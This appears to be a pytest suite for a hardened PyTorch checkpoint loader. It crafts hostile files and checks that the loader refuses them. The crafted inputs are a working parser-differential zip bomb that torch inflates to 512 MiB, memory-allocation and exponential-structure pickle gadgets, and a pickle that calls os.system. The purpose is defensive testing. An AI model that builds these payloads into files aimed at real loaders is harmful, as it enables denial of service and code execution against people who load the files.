"""dlcomp._torchzip: a file is read only as torch.save wrote it, or refused.

The findings of the issue "checkpoints safe by construction" are each
reproduced here through the public loaders (``dlcomp.load_checkpoint``,
``dlcomp.read_checkpoint``, and ``vet_item`` for DCP chunks), so that each test fails
on a dlcomp without this module:

- S1: a second central directory hides a deflated record from Python's
  zipfile, which vetted the file, while torch's reader (miniz) inflates it;
  in a file and in one item of a DCP ``.distcp`` file;
- S2: ``bytearray``, on torch's weights_only allowlist, allocates what the
  pickle asks;
- D1: single-bit flips load silently (torch never checks its CRC-32s);
- D3: nested shared tuples make any traversal of the loaded object
  exponential.

Tests that measure memory run a child process and read its own peak (VmHWM).
"""

import collections
import io
import json
import os
import pickle
import pickletools
import random
import struct
import subprocess
import sys
import threading
import time
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
import torch
from torch import nn

import dlcomp
from dlcomp import CheckpointError

MiB = 2**20
BOMB_BYTES = 512 * MiB  # S1 in a file: 128 Mi float32 zeros, deflated
ITEM_BOMB_BYTES = 256 * MiB  # S1 in a DCP item
CHILD_TIMEOUT = 300  # seconds: generous, for a loaded 2-core machine


def torchzip():
    """The module under test, imported where a test needs it (the findings'
    tests go through the public loaders, so they run on any dlcomp)."""
    from dlcomp import _torchzip

    return _torchzip


# --- a child process reports its own peak memory ------------------------------------

# VmHWM is the high-water mark of the child's own address space. (ru_maxrss
# would not do: Linux carries the parent's peak into it across fork and exec.)
PEAK = """
import json, sys, time
from pathlib import Path

def own_peak_kib():
    with open("/proc/self/status") as status:
        line = next(line for line in status if line.startswith("VmHWM:"))
    return int(line.split()[1])

import torch
from torch import nn
import dlcomp
path, action = Path(sys.argv[1]), sys.argv[2]
started = time.perf_counter()
try:
    if action.endswith("imports") or action == "imports only":
        outcome = "imports only"
    elif action == "torch.load":
        outcome = f"loaded {type(torch.load(path, weights_only=True)).__name__}"
    elif action == "load_checkpoint":
        dlcomp.load_checkpoint(path, nn.Linear(2, 2))
        outcome = "loaded"
    elif action == "read_checkpoint":
        dlcomp.read_checkpoint(path)
        outcome = "loaded"
    else:
        raise SystemExit(f"unknown action {action!r}")
except dlcomp.CheckpointError as error:
    outcome = f"CheckpointError: {error}"
seconds = time.perf_counter() - started
print(json.dumps({"peak_kib": own_peak_kib(), "outcome": outcome, "seconds": seconds}))
"""


def run_child(path: Path, action: str, timeout: int = CHILD_TIMEOUT) -> dict:
    """Run ``action`` on ``path`` in a fresh interpreter; its report, peak in bytes."""
    try:
        proc = subprocess.run(
            [sys.executable, "-c", PEAK, str(path), action],
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )
    except subprocess.TimeoutExpired as expired:
        stderr = expired.stderr or b""
        text = stderr.decode() if isinstance(stderr, bytes) else stderr
        pytest.fail(
            f"child {action!r} ran past {timeout} s; stderr tail:\n{text[-3000:]}"
        )
    assert proc.returncode == 0, (
        f"child {action!r} exited with {proc.returncode}; stderr tail:\n"
        f"{proc.stderr[-3000:]}"
    )
    report = json.loads(proc.stdout.splitlines()[-1])
    report["peak"] = report.pop("peak_kib") * 1024
    return report


_BASELINE: list[int] = []


def growth(path: Path, action: str) -> tuple[int, dict]:
    """How much more memory ``action`` took than the imports alone, and its report."""
    if not _BASELINE:
        _BASELINE.append(run_child(path, "imports only")["peak"])
    report = run_child(path, action)
    return report["peak"] - _BASELINE[0], report


# --- crafted archives -----------------------------------------------------------------


class _Storage:
    """Stands for the storage record ``data/0`` in a pickle."""

    def __init__(self, numel: int) -> None:
        self.numel = numel


class _Tensor:
    """Pickles as torch.save pickles a 1-D float32 tensor over ``storage``."""

    def __init__(self, storage: _Storage) -> None:
        self.storage = storage

    def __reduce__(self):
        shape, stride = (self.storage.numel,), (1,)
        args = (self.storage, 0, shape, stride, False, collections.OrderedDict())
        return (torch._utils._rebuild_tensor_v2, args)


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, _Storage):
            return ("storage", torch.FloatStorage, "0", "cpu", obj.numel)
        return None


def torch_pickle(obj) -> bytes:
    """``data.pkl`` as torch.save writes it for ``obj`` (with _Tensor stand-ins)."""
    buffer = io.BytesIO()
    _TorchPickler(buffer, protocol=2).dump(obj)
    return buffer.getvalue()


def _local(name: bytes, crc: int, stored: int, size: int, method: int) -> bytes:
    return (
        struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, stored, size,
            len(name), 0,
        )
        + name
    )  # fmt: skip


def _central(name: bytes, crc: int, stored: int, size: int, method: int, at: int):
    return (
        struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, stored,
            size, len(name), 0, 0, 0, 0, 0, at,
        )
        + name
    )  # fmt: skip


def _zip64_end(count: int, size: int, at: int) -> bytes:
    return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, at)  # fmt: skip  # noqa: E501


def second_directory_bomb(pickled: bytes, inflated: int) -> bytes:
    """S1: stored records and their directory for zipfile, a deflated one for miniz.

    The records ``data.pkl`` (``pickled``), ``version``, ``byteorder`` and a
    64-byte ``data/0`` are stored; then come a deflated ``data/0`` of
    ``inflated`` zero bytes, a second directory listing it (and the other
    three), a zip64 end record pointing at that directory, the first
    directory, a zip64 end record pointing at the first, the locator, which
    points at the zip64 end record of the *second*, and the end record.
    Python's zipfile reads the zip64 end record just before the locator (the
    first directory: all stored); miniz follows the locator (the second).
    """
    out, first = bytearray(), []
    for name, data in [
        (b"archive/data.pkl", pickled),
        (b"archive/version", b"3\n"),
        (b"archive/byteorder", b"little"),
        (b"archive/data/0", bytes(64)),
    ]:
        crc = zlib.crc32(data)
        first.append(_central(name, crc, len(data), len(data), 0, len(out)))
        out += _local(name, crc, len(data), len(data), 0) + data
    deflate, crc, packed = zlib.compressobj(9, zlib.DEFLATED, -15), 0, bytearray()
    chunk = bytes(MiB)  # zeros, written again and again: this process stays small
    for _ in range(inflated // MiB):
        crc = zlib.crc32(chunk, crc)
        packed += deflate.compress(chunk)
    packed += deflate.flush()
    name = b"archive/data/0"
    second = [*first[:3], _central(name, crc, len(packed), inflated, 8, len(out))]
    out += _local(name, crc, len(packed), inflated, 8) + packed
    second_at = len(out)
    out += b"".join(second)
    second_end_at = len(out)
    out += _zip64_end(4, len(b"".join(second)), second_at)
    first_at = len(out)
    out += b"".join(first)
    out += _zip64_end(4, len(b"".join(first)), first_at)
    out += struct.pack("<4sLQL", b"PK\x06\x07", 0, second_end_at, 1)
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, 4, 4, len(b"".join(first)), first_at, 0
    )
    return bytes(out)


@pytest.fixture(scope="module")
def file_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("s1") / "bomb.pt"
    pickled = torch_pickle({"w": _Tensor(_Storage(BOMB_BYTES // 4))})
    path.write_bytes(second_directory_bomb(pickled, BOMB_BYTES))
    return path


def test_s1_zipfile_sees_only_stored_records_and_torch_inflates_them(file_bomb):
    """The danger is real: the vetting parser and the loading one disagree."""
    assert file_bomb.stat().st_size < MiB
    with zipfile.ZipFile(file_bomb) as archive:
        records = {
            r.filename: (r.compress_type, r.file_size) for r in archive.infolist()
        }
    assert records["archive/data/0"] == (zipfile.ZIP_STORED, 64)
    grew, report = growth(file_bomb, "torch.load")
    assert report["outcome"] == "loaded dict"
    assert grew > BOMB_BYTES // 2, report


def test_s1_a_second_directory_is_refused_without_inflating_it(file_bomb):
    size = file_bomb.stat().st_size
    grew, report = growth(file_bomb, "load_checkpoint")
    outcome = report["outcome"]
    assert grew < 20 * size, (grew, size, outcome)
    assert outcome.startswith("CheckpointError: "), outcome
    assert (
        f"its record 'archive/data/0' is compressed (deflate) and would inflate "
        f"to {BOMB_BYTES} bytes" in outcome
    ), outcome


# --- S1 in one item of a DCP checkpoint -----------------------------------------------


def test_s1_in_a_dcp_item_is_refused_from_its_bytes_alone():
    """A DCP chunk is vetted as a file is; loading it is tests/test_safe_dcp.py's."""
    from dlcomp._torchzip import vet_item

    pickled = torch_pickle(_Tensor(_Storage(ITEM_BOMB_BYTES // 4)))  # a bare tensor
    item = second_directory_bomb(pickled, ITEM_BOMB_BYTES)
    assert len(item) < 300 * 1024
    data = io.BytesIO(b"x" * 100 + item)  # the chunk starts 100 bytes in
    with pytest.raises(CheckpointError) as refused:
        vet_item(data, 100, len(item), "the item 'model.0.weight'")
    assert "the item 'model.0.weight'" in str(refused.value)
    assert (
        f"is compressed (deflate) and would inflate to {ITEM_BOMB_BYTES} bytes"
        in str(refused.value)
    )


# --- S2: an allocation gadget on torch's allowlist ------------------------------------


class _Gadget:
    """Unpickles as ``bytearray(2**29)``: 512 MiB of zeros from a few bytes."""

    def __reduce__(self):
        return (bytearray, (2**29,))


def v2_checkpoint(**extra) -> dict:
    """The dict dlcomp's checkpoint format 2 holds (as an older dlcomp wrote it)."""
    torch.manual_seed(0)
    net = nn.Linear(2, 2)
    opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    net(torch.randn(3, 2)).pow(2).sum().backward()
    opt.step()
    return {
        "format": "dlcomp.checkpoint",
        "version": 2,
        "dlcomp": "0.1.0",
        "step": 3,
        "model": net.state_dict(),
        "optimizer": opt.state_dict(),
        "optimizer_class": "torch.optim.sgd.SGD",
        "extra": extra,
    }


def test_s2_bytearray_is_refused_before_it_allocates(tmp_path):
    path = tmp_path / "gadget.pt"
    torch.save(v2_checkpoint(note=_Gadget()), path)
    assert path.stat().st_size < 4096
    grew, report = growth(path, "load_checkpoint")
    outcome = report["outcome"]
    assert grew < 64 * MiB, (grew, outcome)
    assert outcome.startswith("CheckpointError: "), outcome
    assert "refers to __builtin__.bytearray" in outcome, outcome
    assert "It was not loaded, and nothing ran" in outcome, outcome


# --- D1: single-bit flips -------------------------------------------------------------


def _bits(t: torch.Tensor) -> torch.Tensor:
    t = t.detach().resolve_conj().resolve_neg()
    return t.reshape(-1).contiguous().view(torch.uint8)


def same(a, b) -> bool:
    """Equal, type for type, tensors bit for bit."""
    if isinstance(a, torch.Tensor):
        return (
            type(a) is type(b)
            and (a.dtype, a.shape, a.stride(), a.requires_grad, a.is_conj())
            == (b.dtype, b.shape, b.stride(), b.requires_grad, b.is_conj())
            and torch.equal(_bits(a), _bits(b))
        )
    if type(a) is not type(b):
        return False
    if isinstance(a, dict):
        return list(a) == list(b) and all(same(a[k], b[k]) for k in a)
    if isinstance(a, list | tuple):
        return len(a) == len(b) and all(map(same, a, b))
    if hasattr(a, "__dataclass_fields__"):
        return all(same(getattr(a, f), getattr(b, f)) for f in a.__dataclass_fields__)
    return a == b


def test_d1_every_single_bit_flip_is_refused_or_loads_the_same(tmp_path):
    """Every bit of the file, flipped in place: refused, or exactly the original."""
    path = tmp_path / "ckpt.pt"
    torch.save(v2_checkpoint(note="warm-up done", lr=0.1), path)
    original = dlcomp.read_checkpoint(path)
    data = bytearray(path.read_bytes())
    silent, odd = [], []
    fd = os.open(path, os.O_WRONLY)
    try:
        for byte in range(len(data)):
            for bit in range(8):
                os.pwrite(fd, bytes([data[byte] ^ (1 << bit)]), byte)
                try:
                    loaded = dlcomp.read_checkpoint(path)
                except CheckpointError:
                    pass
                except Exception as error:  # anything else is a bug
                    odd.append((byte, bit, repr(error)[:200]))
                else:
                    if not same(loaded, original):
                        silent.append((byte, bit))
            os.pwrite(fd, bytes([data[byte]]), byte)
    finally:
        os.close(fd)
    flips = 8 * len(data)
    assert not odd, f"{len(odd)} of {flips} flips raised another error: {odd[:5]}"
    assert not silent, (
        f"{len(silent)} of {flips} single-bit flips loaded as something else, "
        f"silently (byte, bit): {silent[:20]}"
    )


# --- D3: shared references nested in each other ---------------------------------------


def nested_shared(levels: int) -> tuple:
    t: tuple = ()
    for _ in range(levels):
        t = (t, t)  # 2 ** (levels + 1) - 1 parts, levels + 1 objects
    return t


def test_d3_nested_shared_tuples_are_refused_fast(tmp_path):
    path = tmp_path / "d3.pt"
    torch.save(v2_checkpoint(t=nested_shared(40)), path)
    assert path.stat().st_size < 4096
    report = run_child(path, "read_checkpoint", timeout=90)  # hangs without the check
    outcome = report["outcome"]
    assert outcome.startswith("CheckpointError: "), outcome
    assert "shared references nested in each other" in outcome, outcome
    assert report["seconds"] < 1.0, report


def test_check_bounded_refuses_the_loaded_structure_fast():
    check_bounded = torchzip().check_bounded
    started = time.perf_counter()
    with pytest.raises(CheckpointError, match="more than 70000 parts"):
        check_bounded({"extra": {"t": nested_shared(40)}}, "d3.pt", 70_000)
    assert time.perf_counter() - started < 1.0
    check_bounded({"t": nested_shared(10)}, "ok.pt", 70_000)  # 2047 parts: fine


def test_the_scan_bounds_the_object_before_it_is_built():
    tz = torchzip()
    data = pickle.dumps({"t": nested_shared(40)}, protocol=2)
    started = time.perf_counter()
    with pytest.raises(CheckpointError, match="shared references nested"):
        tz.scan_pickle(data, "d3.pt")
    assert time.perf_counter() - started < 1.0
    tz.scan_pickle(pickle.dumps({"t": nested_shared(12)}, protocol=2), "ok.pt")


def test_a_container_that_holds_itself_is_refused():
    loop: list = []
    loop.append(loop)
    with pytest.raises(CheckpointError, match="more than"):
        torchzip().scan_pickle(pickle.dumps({"loop": loop}, protocol=2), "loop.pt")


# --- everything torch.save writes for real state dicts still loads --------------------


def _dtypes() -> dict[torch.dtype, torch.Tensor]:
    """A small tensor of every dtype torch.save writes (quantized ones aside)."""
    found = {}
    for dtype in sorted(
        {v for v in vars(torch).values() if isinstance(v, torch.dtype)}, key=str
    ):
        with warnings.catch_warnings():  # ComplexHalf is "experimental"
            warnings.simplefilter("ignore", UserWarning)
            try:
                tensor = torch.zeros(3, dtype=dtype)
                torch.save(tensor, io.BytesIO())
            except (RuntimeError, KeyError, NotImplementedError):
                continue  # quantized, and bit widths torch.save cannot write
        found[dtype] = tensor
    return found


def _optimizers() -> dict[str, type]:
    return {
        name: kind
        for name, kind in vars(torch.optim).items()
        if isinstance(kind, type)
        and issubclass(kind, torch.optim.Optimizer)
        and kind is not torch.optim.Optimizer
    }


def _stepped(kind: type) -> dict:
    torch.manual_seed(0)
    if kind is torch.optim.SparseAdam:
        net = nn.Embedding(5, 3, sparse=True)
        batch = torch.tensor([1, 2])
    else:
        net = nn.Linear(4, 3, bias=kind.__name__ != "Muon")
        batch = torch.randn(2, 4)
    opt = kind(net.parameters(), lr=0.01)

    def closure():
        opt.zero_grad()
        loss = net(batch).pow(2).sum()
        loss.backward()
        return loss

    for _ in range(2):
        opt.step(closure)
    return {"model": net.state_dict(), "optimizer": opt.state_dict()}


def _states() -> dict:
    model = nn.Sequential(
        nn.Linear(64, 32), nn.BatchNorm1d(32), nn.Conv2d(1, 2, 3), nn.LSTM(3, 3)
    )
    states = {f"dtype {d}": {"t": t, "row": t[1:]} for d, t in _dtypes().items()}
    states |= {f"optimizer {n}": _stepped(k) for n, k in _optimizers().items()}
    states |= {
        "model": model.state_dict(),
        "Parameters": model.state_dict(keep_vars=True),
        "nested": {
            "a": [1, 2.5, "x", None, True, (1, (2, [3]))],
            "b": {"c": {"d": torch.ones(1)}, 7: "int key"},
            "big int": -(2**70),
            "nan": float("nan"),
            "dtype": torch.bfloat16,
            "devices": [torch.device("cpu"), torch.device("cuda", 0)],
            "size": torch.Size([2, 3]),
            "complex": 1 + 2j,
        },
        "edges": {
            "empty": torch.zeros(0),
            "0-dim": torch.tensor(3.0),
            "view": torch.arange(10)[2:5],
            "shares a storage": model[0].weight[:3],
            "expanded": torch.zeros(1).expand(4),
            "conj": torch.randn(3, dtype=torch.cfloat).conj(),
            "sparse": torch.eye(3).to_sparse(),
            "meta": torch.empty(2, device="meta"),
            "rng": torch.get_rng_state(),
        },
        "many records": {f"t{i}": torch.randn(16) for i in range(2000)},
        "big-ish": {"w": torch.randn(256, 1024)},  # 1 MiB
        "empty dict": {},
        "a bare tensor": torch.arange(6.0).reshape(2, 3),
    }
    return states


STATES = _states()


def _same_state(a, b) -> bool:
    if isinstance(a, torch.Tensor) and (a.is_sparse or a.is_meta):
        return type(a) is type(b) and (a.layout, a.shape, a.dtype, a.device.type) == (
            b.layout,
            b.shape,
            b.dtype,
            b.device.type,
        )
    if isinstance(a, float) and a != a:  # NaN
        return isinstance(b, float) and b != b
    if isinstance(a, dict) and isinstance(b, dict):
        return (
            type(a) is type(b)
            and list(a) == list(b)
            and all(_same_state(a[k], b[k]) for k in a)
        )
    if isinstance(a, list | tuple) and type(a) is type(b):
        return len(a) == len(b) and all(map(_same_state, a, b))
    return same(a, b)


@pytest.mark.parametrize("name", list(STATES))
def test_what_torch_save_writes_loads_unchanged(tmp_path, name):
    tz = torchzip()
    path = tmp_path / "state.pt"
    torch.save(STATES[name], path)
    loaded = tz.load_torch_file(path)
    assert _same_state(STATES[name], loaded)
    # and Python's zipfile sees exactly the records the vetting saw
    with open(path, "rb") as file:
        layout = tz.vet_archive(file, 0, path.stat().st_size, str(path))
    with zipfile.ZipFile(path) as archive:
        seen = [(r.filename, r.file_size, r.CRC) for r in archive.infolist()]
    assert seen == [
        (f"{layout.prefix}/{r.name}", r.size, r.crc) for r in layout.records
    ]


def test_a_dlcomp_checkpoint_of_format_2_still_reads(tmp_path):
    path = tmp_path / "old.pt"
    saved = v2_checkpoint(note="warm-up done")
    torch.save(saved, path)
    checkpoint = dlcomp.read_checkpoint(path)
    assert (checkpoint.step, checkpoint.extra) == (3, {"note": "warm-up done"})
    assert same(checkpoint.model, saved["model"])


def test_a_storage_alignment_other_than_64_is_read(tmp_path):
    from torch.utils.serialization import config

    path = tmp_path / "aligned.pt"
    before = config.save.storage_alignment
    config.save.storage_alignment = 4096
    try:
        torch.save({"w": torch.ones(3)}, path)
    finally:
        config.save.storage_alignment = before
    tz = torchzip()
    assert same(tz.load_torch_file(path)["w"], torch.ones(3))
    with open(path, "rb") as file:
        assert tz.vet_archive(file, 0, path.stat().st_size, "x").alignment == 4096


# --- files that are not torch.save zips -----------------------------------------------


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("legacy torch.save", r"legacy format \(PyTorch before 1\.6.*Re-save it"),
        ("raw pickle", r"raw pickle \(not a torch\.save file\), which would run code"),
        ("text", "not a readable checkpoint"),
        ("empty", r"not a readable checkpoint \(0 bytes\)"),
    ],
)
def test_a_file_that_is_not_a_torch_save_zip_is_refused(tmp_path, kind, expected):
    path = tmp_path / "file.pt"
    if kind == "legacy torch.save":
        torch.save({"w": torch.ones(3)}, path, _use_new_zipfile_serialization=False)
    elif kind == "raw pickle":
        path.write_bytes(pickle.dumps({"w": 1}, protocol=2))
    else:
        path.write_bytes(b"hello, this is a text file\n" if kind == "text" else b"")
    with pytest.raises(CheckpointError, match=expected):
        torchzip().load_torch_file(path)


class _RunsCode:
    def __reduce__(self):
        return (os.system, ("true",))


def test_a_legacy_file_that_would_run_code_says_so(tmp_path):
    path = tmp_path / "legacy.pt"
    torch.save({"x": _RunsCode()}, path, _use_new_zipfile_serialization=False)
    with pytest.raises(CheckpointError, match=r"refers to \w+\.system \(os\.system\)"):
        torchzip().load_torch_file(path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs POSIX FIFOs")
def test_a_fifo_is_refused_without_blocking(tmp_path):
    fifo = tmp_path / "ckpt.pt"
    os.mkfifo(fifo)
    results = []

    def load():
        try:
            torchzip().load_torch_file(fifo)
        except CheckpointError as error:
            results.append(str(error))

    worker = threading.Thread(target=load, daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "load_torch_file blocked opening a FIFO"
    assert len(results) == 1
    assert "not a regular file" in results[0]


def test_a_missing_file_is_a_file_not_found_error(tmp_path):
    with pytest.raises(FileNotFoundError):
        torchzip().load_torch_file(tmp_path / "absent.pt")


def test_a_truncated_file_is_refused(tmp_path):
    path = tmp_path / "truncated.pt"
    torch.save({"w": torch.ones(100)}, path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(CheckpointError, match="not a readable checkpoint"):
        torchzip().load_torch_file(path)


# --- the layout, byte by byte ---------------------------------------------------------


def saved_bytes(obj=None) -> bytes:
    buffer = io.BytesIO()
    torch.save({"w": torch.arange(1000.0)} if obj is None else obj, buffer)
    return buffer.getvalue()


def vet(data: bytes, offset: int = 0, length: int | None = None):
    length = len(data) - offset if length is None else length
    return torchzip().vet_archive(io.BytesIO(data), offset, length, "ckpt")


def _end_records(data: bytes) -> tuple[int, int, int]:
    """Offsets of the central directory, the zip64 end record, the end record."""
    end = len(data) - 22
    z64 = end - 20 - 56
    return struct.unpack_from("<Q", data, z64 + 48)[0], z64, end


def test_a_zipfile_written_archive_is_refused(tmp_path):
    """Same records, stored, written by Python's zipfile: not torch's layout."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved_bytes())) as src,
        zipfile.ZipFile(out, "w") as dst,
    ):
        for record in src.infolist():
            dst.writestr(record.filename, src.read(record))
    with pytest.raises(CheckpointError, match="not a readable checkpoint"):
        vet(out.getvalue())


def _flip_field(data: bytes, at: int, value: bytes) -> bytes:
    return data[:at] + value + data[at + len(value) :]


@pytest.mark.parametrize(
    ("case", "edit", "expected"),
    [
        ("junk after the end", lambda d: d + b"\0", "does not end with a zip end"),
        ("junk before the start", lambda d: b"\0" + d, "does not start like one"),
        (
            "an end record comment",
            lambda d: d[:-2] + b"\x01\x00" + b"!",
            "does not end with a zip end",
        ),
        (
            "the locator points elsewhere",
            lambda d: _flip_field(
                d,
                len(d) - 22 - 20 + 8,
                struct.pack("<Q", _end_records(d)[1] - 56),
            ),
            "zip64 end record is missing|not the zip64 end record",
        ),
        (
            "a gap before the directory",
            lambda d: _shift_directory(d, 8),
            "belong to no record|zip readers could disagree",
        ),
    ],
)
def test_bytes_outside_torchs_layout_are_refused(case, edit, expected):
    data = saved_bytes()
    vet(data)  # the real one is fine
    with pytest.raises(CheckpointError, match=expected):
        vet(edit(data))


def _shift_directory(data: bytes, by: int) -> bytes:
    """``by`` zero bytes before the central directory, every offset updated."""
    cd, z64, end = _end_records(data)
    out = bytearray(data[:cd] + bytes(by) + data[cd:])
    struct.pack_into("<Q", out, z64 + by + 48, cd + by)  # zip64: directory offset
    struct.pack_into("<Q", out, end + by - 20 + 8, z64 + by)  # locator
    struct.pack_into("<L", out, end + by + 16, cd + by)  # end record
    return bytes(out)


def test_a_record_whose_padding_is_not_zs_is_refused():
    data = bytearray(saved_bytes())
    at = data.index(b"FB") + 4  # the first record's padding
    data[at] = ord("Y")
    with pytest.raises(CheckpointError, match="disagrees with the directory"):
        vet(bytes(data))


def test_a_record_saved_without_crc32s_is_refused_and_says_why(tmp_path):
    torch.serialization.set_crc32_options(False)
    try:
        data = saved_bytes()
    finally:
        torch.serialization.set_crc32_options(True)
    with pytest.raises(CheckpointError, match=r"set_crc32_options\(False\)"):
        vet(data)


def test_a_changed_byte_of_a_record_is_a_crc_mismatch():
    data = bytearray(saved_bytes())
    layout = vet(bytes(data))
    (storage,) = [r for r in layout.records if r.name == "data/0"]
    data[storage.data + 100] ^= 0x10
    with pytest.raises(CheckpointError, match=r"record 'archive/data/0' do not match"):
        vet(bytes(data))


# --- declared sizes that do not fit: a patched central directory ----------------------

_CENTRAL = struct.Struct("<4s6H3L5H2L")


def patch_storage_entry(data: bytes, edit) -> bytes:
    """``data`` with ``edit(fields)`` applied to the directory entry of data/0."""
    out = bytearray(data)
    at = data.index(b"PK\x01\x02")
    while True:
        fields = list(_CENTRAL.unpack_from(data, at))
        name = data[at + 46 : at + 46 + fields[10]]
        if name.endswith(b"/data/0"):
            edit(fields)
            _CENTRAL.pack_into(out, at, *fields)
            return bytes(out)
        at += 46 + fields[10] + fields[11] + fields[12]


@pytest.mark.parametrize(
    ("case", "edit", "expected"),
    [
        (
            "declares a gigabyte",
            lambda f: f.__setitem__(slice(8, 10), [2**30, 2**30]),
            r"record 'archive/data/0' declares 1073741824 bytes .* more than it holds",
        ),
        (
            "sizes disagree",
            lambda f: f.__setitem__(9, f[9] + 1),
            r"uncompressed record 'archive/data/0' declares 4001 bytes but occupies "
            "4000",
        ),
        (
            "deflated",
            lambda f: f.__setitem__(4, 8),
            r"record 'archive/data/0' is compressed \(deflate\)",
        ),
        (
            "moved",
            lambda f: f.__setitem__(16, f[16] + 64),
            r"record 'archive/data/0' starts at byte \d+, not right after",
        ),
    ],
)
def test_declared_sizes_and_offsets_are_checked(case, edit, expected):
    with pytest.raises(CheckpointError, match=expected):
        vet(patch_storage_entry(saved_bytes(), edit))


def test_two_records_of_the_same_name_are_refused():
    """Rename data/1 to data/0 in both headers: a name twice, CRCs still right."""
    data = saved_bytes({"a": torch.ones(2), "b": torch.zeros(2)})
    data = data.replace(b"archive/data/1", b"archive/data/0")
    with pytest.raises(CheckpointError, match="two records named 'archive/data/0'"):
        vet(data)


# --- the pickle -----------------------------------------------------------------------


def scan(data: bytes):
    return torchzip().scan_pickle(data, "c.pt")


@pytest.mark.parametrize(
    "spelling",
    [
        b"c__builtin__\nbytearray\n",
        b"cbuiltins\nbytearray\n",
        # protocol 4: module and name pushed as strings, memoized, fetched back
        b"\x8c\x08builtins\x94\x8c\tbytearray\x94h\x00h\x01\x93",
    ],
    ids=["__builtin__", "builtins", "STACK_GLOBAL"],
)
def test_bytearray_is_refused_under_any_name(spelling):
    data = b"\x80\x02" + spelling + b"J\x00\x00\x00\x20\x85R."
    with pytest.raises(CheckpointError, match=r"refers to \S*bytearray, .* allocates"):
        scan(data)


def test_a_global_whose_name_is_computed_is_refused():
    # STACK_GLOBAL over a name that is not a string pushed as such (a call's result)
    data = b"\x80\x02\x8c\x08builtinsctorch\nSize\n)R\x93."
    with pytest.raises(CheckpointError, match="whose name it computes"):
        scan(data)


def test_the_bytearray8_opcode_is_refused():
    data = b"\x80\x05\x96" + struct.pack("<Q", 4) + b"abcd."
    with pytest.raises(CheckpointError, match="BYTEARRAY8"):
        scan(data)


def test_chained_encodings_are_refused(tmp_path):
    """_codecs.encode is on torch's allowlist: 'hex' doubles, twenty times."""
    value: object = "ab"
    for _ in range(20):
        value = _Encode(value)
    data = pickle.dumps(value, protocol=2)
    assert len(data) < 2048
    with pytest.raises(CheckpointError, match=r"_codecs\.encode.*exponentially"):
        scan(data)


class _Encode:
    def __init__(self, inner) -> None:
        self.inner = inner

    def __reduce__(self):
        import _codecs

        if isinstance(self.inner, str):
            return (_codecs.encode, (self.inner, "latin1"))
        return (_codecs.encode, (self.inner, "hex"))


@pytest.mark.parametrize(
    ("what", "expected"),
    [
        ({frozenset({1})}, r"__builtin__\.set, .* hashes its items"),
        (collections.Counter("ab"), r"collections\.Counter, .* hashes its items"),
        (torch.FloatTensor, r"torch\.FloatTensor, .* calling a tensor class"),
    ],
    ids=["set", "Counter", "a tensor class"],
)
def test_globals_torch_allows_but_torch_save_never_writes_are_refused(what, expected):
    with pytest.raises(CheckpointError, match=expected):
        scan(pickle.dumps({"x": what}, protocol=2))


def test_a_storage_class_cannot_be_called():
    data = b"\x80\x02ctorch.storage\nUntypedStorage\nJ\x00\x00\x00\x40\x85R."
    with pytest.raises(CheckpointError, match="calling a storage class allocates"):
        scan(data)


def test_a_tuple_key_is_refused_before_it_is_hashed():
    data = pickle.dumps({nested_shared(3): 1}, protocol=2)
    with pytest.raises(CheckpointError, match="key that is not a str or int"):
        scan(data)


def test_code_is_called_code():
    with pytest.raises(CheckpointError, match=r"refers to \w+\.system \(os\.system\)"):
        scan(pickle.dumps({"x": _RunsCode()}, protocol=2))


def test_bytes_after_stop_and_protocol_4_are_refused():
    with pytest.raises(CheckpointError, match="bytes after its end"):
        scan(pickle.dumps({"a": 1}, protocol=2) + b"N.")
    with pytest.raises(CheckpointError, match="protocol 4"):
        scan(pickle.dumps({"a": 1}, protocol=4))


def test_every_opcode_torch_save_wrote_above_is_understood():
    """The scan knows each opcode the real state dicts above were written with."""
    seen = set()
    for state in STATES.values():
        with zipfile.ZipFile(io.BytesIO(saved_bytes(state))) as archive:
            name = next(n for n in archive.namelist() if n.endswith("/data.pkl"))
            data = archive.read(name)
        seen |= {op.name for op, _, _ in pickletools.genops(data)}
        scan(data)
    assert {"GLOBAL", "REDUCE", "BINPERSID", "BUILD", "SETITEMS"} <= seen


def test_a_storage_declared_larger_than_its_record_is_refused(tmp_path):
    """The pickle says 10**6 floats; the record holds 4000 bytes (CRCs rewritten)."""
    tz = torchzip()
    real = saved_bytes()
    pickled = torch_pickle({"w": _Tensor(_Storage(10**6))})
    path = tmp_path / "lies.pt"
    path.write_bytes(rewrite_pickle(real, pickled))
    with pytest.raises(CheckpointError, match="declares 4000000 bytes of torch"):
        tz.load_torch_file(path)


def rewrite_pickle(archive: bytes, pickled: bytes) -> bytes:
    """``archive`` with its data.pkl replaced, laid out again as torch lays it out."""
    with zipfile.ZipFile(io.BytesIO(archive)) as src:
        records = {
            r.filename.partition("/")[2]: src.read(r)
            for r in src.infolist()
            if not r.filename.endswith("data.pkl")
        }
    buffer = io.BytesIO()
    writer = torch._C.PyTorchFileWriter(buffer, True, 64)  # CRC-32s, 64-byte aligned
    writer.write_record("data.pkl", pickled, len(pickled))
    for name, data in records.items():
        if name not in ("version", ".data/serialization_id"):
            writer.write_record(name, data, len(data))
    writer.write_end_of_file()
    return buffer.getvalue()


# --- one item among others: a DCP .distcp file holds one archive per item -------------


class CountingFile(io.BytesIO):
    """A file that counts the bytes read from it."""

    bytes_read = 0

    def read(self, size=-1):
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def embedded(item: bytes, before: int = 100, after: int = 0) -> CountingFile:
    return CountingFile(b"x" * before + item + bytes(after))


def test_an_item_is_vetted_within_its_own_bytes():
    vet_item = torchzip().vet_item
    item = saved_bytes()
